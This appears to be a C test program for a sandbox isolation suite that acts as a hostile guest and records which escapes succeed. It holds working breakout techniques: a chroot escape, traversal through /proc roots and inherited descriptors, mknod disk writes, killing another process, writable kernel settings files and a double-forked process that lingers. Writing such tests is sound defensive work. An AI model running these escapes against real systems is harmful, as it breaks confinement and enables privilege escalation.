/*
 * What a hostile program of a guest's tree tries: static, so that it starts in any root. Every way out ends in a file
 * or a byte of HOST, which the tests look for; nothing else is touched. Its last word is what it reached.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <unistd.h>

static char reached_so_far[4096];

static void reached(const char *what)
{
	strncat(reached_so_far, " ", sizeof reached_so_far - strlen(reached_so_far) - 1);
	strncat(reached_so_far, what, sizeof reached_so_far - strlen(reached_so_far) - 1);
}

static void leave(const char *prefix, const char *how)
{
	char path[4096];
	snprintf(path, sizeof path, "%s" HOST "/intruder-%s", prefix, how);
	int file = open(path, O_WRONLY | O_CREAT, 0644);
	if (file >= 0) {
		close(file);
		reached(how);
	}
}

/* Root is where the process says it is: with the old one still open, the way up from there has no end at the new. */
static void climb(void)
{
	int old = open("/", O_RDONLY | O_DIRECTORY);
	mkdir("/tmp/inner", 0755);
	if (old < 0 || chroot("/tmp/inner") != 0)
		return;
	fchdir(old);
	for (int depth = 0; depth < 64; depth++)
		if (chdir("..") != 0)
			break;
	leave(".", "chroot");
	if (chroot(".") == 0)
		leave("", "chroot-again");
}

static void write_disk(void)
{
	const char *places[] = { "/tmp/disk", "/disk", "/dev/disk", "/var/tmp/disk", "/run/disk" };
	for (unsigned place = 0; place < sizeof places / sizeof *places; place++) {
		if (mknod(places[place], S_IFBLK | 0666, makedev(MAJOR, MINOR)) != 0)
			continue;
		int disk = open(places[place], O_WRONLY);
		if (disk >= 0 && write(disk, "intruder", 8) == 8)
			reached("disk");
		if (disk >= 0)
			close(disk);
		unlink(places[place]);
	}
}

static void call(void)
{
	struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons(PORT) };
	inet_pton(AF_INET, "127.0.0.1", &to.sin_addr);
	int line = socket(AF_INET, SOCK_STREAM, 0);
	if (line >= 0 && connect(line, (struct sockaddr *)&to, sizeof to) == 0)
		reached("network");
	if (line >= 0)
		close(line);
}

/* Opened, not written: the machine that runs the tests keeps its settings. */
static void settings(void)
{
	const char *files[] = { "/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/sys/kernel/uevent_helper" };
	for (unsigned file = 0; file < sizeof files / sizeof *files; file++) {
		int open_file = open(files[file], O_WRONLY);
		if (open_file >= 0)
			reached(files[file]);
	}
}

int main(void)
{
	leave("", "path");
	leave("/proc/1/root", "first-process");
	char parent[64];
	snprintf(parent, sizeof parent, "/proc/%d/root", getppid());
	leave(parent, "parent");
	leave("/proc/self/cwd/../../../../../../../..", "cwd");
	for (int number = 3; number < 64; number++) {
		char handle[64];
		snprintf(handle, sizeof handle, "/proc/self/fd/%d/../../../../../../..", number);
		leave(handle, "handle");
	}
	if (kill(BYSTANDER, 0) == 0 && kill(BYSTANDER, SIGTERM) == 0)
		reached("kill");
	write_disk();
	call();
	settings();
	/* Stays behind, and tries once more when nobody waits for it. */
	if (fork() == 0) {
		setsid();
		if (fork() == 0) {
			sleep(3);
			leave("", "late");
			climb();
			exit(0);
		}
		exit(0);
	}
	climb();
	/* As initramfs-tools marks an error: it is quoted. */
	fprintf(stderr, "E: reached:%s\n", reached_so_far);
	return 1;
}
